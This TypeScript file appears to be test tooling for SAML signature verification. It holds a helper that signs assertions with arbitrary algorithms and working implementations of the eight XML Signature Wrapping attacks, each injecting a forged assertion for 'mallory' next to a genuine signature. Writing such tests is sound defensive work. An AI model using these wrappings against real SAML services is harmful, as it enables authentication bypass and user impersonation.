import { SignedXml } from "xml-crypto";
import type { SamlSigner } from "../signing/saml/issuer.ts";
import { ENVELOPED, EXCLUSIVE_C14N, RSA_SHA256, SHA256 } from "../signing/saml/xml-signature.ts";

/** Ways of signing that `signSaml` does not use. */
export interface SigningOptions {
  readonly algorithm?: string;
  readonly digest?: string;
  readonly canonicalization?: string;
  readonly transforms?: readonly string[];
  /** XPaths of what is signed; by default the assertion. */
  readonly signed?: readonly string[];
  /** The reference is to the whole document instead of an id. */
  readonly emptyUri?: boolean;
}

const ASSERTION = "//*[local-name(.)='Assertion']";

/** Signs the assertion of a response in any way that xml-crypto supports. */
export function signOddly(xml: string, { privateKey, certificate }: SamlSigner, options: SigningOptions = {}): string {
  const { algorithm = RSA_SHA256, digest = SHA256, canonicalization = EXCLUSIVE_C14N } = options;
  const { transforms = [ENVELOPED, EXCLUSIVE_C14N], signed = [ASSERTION], emptyUri = false } = options;
  const signer = new SignedXml({
    privateKey,
    publicCert: certificate,
    signatureAlgorithm: algorithm,
    canonicalizationAlgorithm: canonicalization,
  });
  if (algorithm.endsWith("hmac-sha1")) signer.enableHMAC();
  for (const xpath of signed) {
    signer.addReference({ xpath, digestAlgorithm: digest, transforms: [...transforms], isEmptyUri: emptyUri });
  }
  const location = { reference: `${ASSERTION}/*[local-name(.)='Issuer']`, action: "after" } as const;
  signer.computeSignature(xml, { prefix: "ds", location });
  return signer.getSignedXml();
}

/** The parts of a response whose assertion, and perhaps the response itself, is signed. */
interface Parts {
  readonly xml: string;
  readonly assertion: string;
  /** The assertion's signature. */
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
}

function partsOf(xml: string): Parts {
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/.exec(xml)![0];
  const signature = /<ds:Signature .*<\/ds:Signature>/.exec(assertion)![0];
  return { xml, assertion, signature, bare: assertion.replace(signature, "") };
}

/** What the attacker wants to be read: the same about another subject, with another id. */
const forged = (xml: string): string =>
  xml.replace(/>subject-1</g, ">mallory<").replace(/(<saml:Assertion [^>]*ID=")[^"]*/, "$1_forged");

const inside = (signature: string, content: string): string => signature.replace(/<\/ds:Signature>$/, `${content}$&`);

/** The response with its own ids changed, so that it counts as another one. */
const forgedResponse = (xml: string): string =>
  forged(xml).replace(/(<samlp:Response [^>]*ID=")[^"]*/, "$1_forged-response");

function responseSignature(xml: string): string {
  return /<ds:Signature .*?<\/ds:Signature>/.exec(xml)![0];
}

/**
 * The eight ways of wrapping a signature (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012). The
 * first two take a response that is signed as well. Each still contains the genuine signature and what it signs.
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  "XSW1: the genuine response within the signature of a forged one"(xml) {
    const signature = responseSignature(xml);
    return forgedResponse(xml).replace(signature, inside(signature, xml.replace(signature, "")));
  },
  "XSW2: the genuine response before its signature in a forged one"(xml) {
    const signature = responseSignature(xml);
    return forgedResponse(xml).replace(signature, xml.replace(signature, "") + signature);
  },
  "XSW3: a forged assertion before the genuine one"(xml) {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, forged(bare) + assertion);
  },
  "XSW4: the genuine assertion within a forged one"(xml) {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, forged(bare).replace(/<\/saml:Assertion>$/, `${assertion}$&`));
  },
  "XSW5: the genuine signature in a forged assertion, and the genuine assertion behind it"(xml) {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, forged(assertion) + bare);
  },
  "XSW6: the genuine assertion within its signature, in a forged assertion"(xml) {
    const { assertion, signature, bare } = partsOf(xml);
    return xml.replace(assertion, forged(assertion).replace(signature, inside(signature, bare)));
  },
  "XSW7: a forged assertion among the extensions"(xml) {
    const { assertion, bare } = partsOf(xml);
    return xml.replace(assertion, `<samlp:Extensions>${forged(bare)}</samlp:Extensions>${assertion}`);
  },
  "XSW8: the genuine assertion as an object of its signature, in a forged assertion"(xml) {
    const { assertion, signature, bare } = partsOf(xml);
    const object = `<ds:Object>${bare}</ds:Object>`;
    return xml.replace(assertion, forged(assertion).replace(signature, inside(signature, object)));
  },
};
